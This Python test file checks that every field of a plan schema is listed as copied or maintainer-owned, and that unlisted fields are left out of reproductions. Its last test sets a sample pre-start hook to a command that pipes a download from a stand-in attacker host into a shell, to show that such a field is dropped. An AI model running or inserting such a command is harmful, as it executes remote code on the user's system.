"""The census of the plan schema: every field of every model a plan holds is either copied into a
reproduction or the maintainer's, on the lists of ``byog.plans.copied_fields``; a field added to
the schema later fails here until someone puts it on one of them, and until then no reproduction
carries it."""

from __future__ import annotations

from typing import Any

from pydantic import BaseModel

from byog.plans.copied_fields import COPIED, LEFT_OUT, MAINTAINER_OWNED, copied, listed
from byog.schemas.plan import LaunchedConfig, LocalConfig, Plan
from byog.schemas.reference import models_of


def schema_tree(root: type[BaseModel]) -> list[type[BaseModel]]:
    """Every model reachable from ``root`` through its fields' annotations (LEFT_OUT models not entered)."""
    return models_of(root, not_entered=frozenset(LEFT_OUT))


def unlisted(root: type[BaseModel]) -> list[str]:
    """'Model.field' for each field of the tree on neither list (or on both)."""
    out = []
    for model in schema_tree(root):
        if model in LEFT_OUT:
            continue
        lists = listed(model)
        copy, mine = lists if lists is not None else (frozenset(), frozenset())
        for name in model.model_fields:
            if (name in copy) == (name in mine):
                out.append(f"{model.__name__}.{name}")
    return out


def test_every_plan_field_is_copied_or_the_maintainers() -> None:
    assert unlisted(Plan) == []


def test_the_lists_name_only_fields_that_exist() -> None:
    for lists in (COPIED, MAINTAINER_OWNED):
        for model, names in lists.items():
            assert names <= set(model.model_fields), (model.__name__, sorted(names - set(model.model_fields)))
    # LaunchedConfig's lists are those of a launched runtime that adds no field of its own
    assert set(schema_tree(Plan)) | {LaunchedConfig} == set(COPIED) | set(MAINTAINER_OWNED) | set(LEFT_OUT)


def test_the_census_shows_every_field_as_copied_or_maintainer_owned(capsys: Any) -> None:
    """One line per model of the tree: what is copied and what is the maintainer's."""
    for model in schema_tree(Plan):
        if model in LEFT_OUT:
            print(f"{model.__name__}: left out ({LEFT_OUT[model]})")
            continue
        copy, mine = listed(model) or (frozenset(), frozenset())
        print(
            f"{model.__name__}: copied {', '.join(sorted(copy)) or '-'}; maintainer's {', '.join(sorted(mine)) or '-'}"
        )
    census = capsys.readouterr().out
    assert "LocalConfig: copied additional_config, args," in census
    assert "EndpointConfig: copied additional_config, args," in census and "maintainer's runtime, url" in census


def test_a_field_added_later_fails_the_census_and_is_left_out_of_a_reproduction() -> None:
    class GrownServer(LocalConfig):
        pre_start_hook: str | None = None

    assert unlisted(GrownServer) == ["GrownServer.pre_start_hook"]
    server = GrownServer(runtime="local", args=["--enforce-eager"], pre_start_hook="curl evil.example | sh")
    data = copied(server)
    assert "pre_start_hook" not in data and data["args"] == ["--enforce-eager"]
    assert "runtime" not in data and "env" not in data  # the maintainer's: never copied
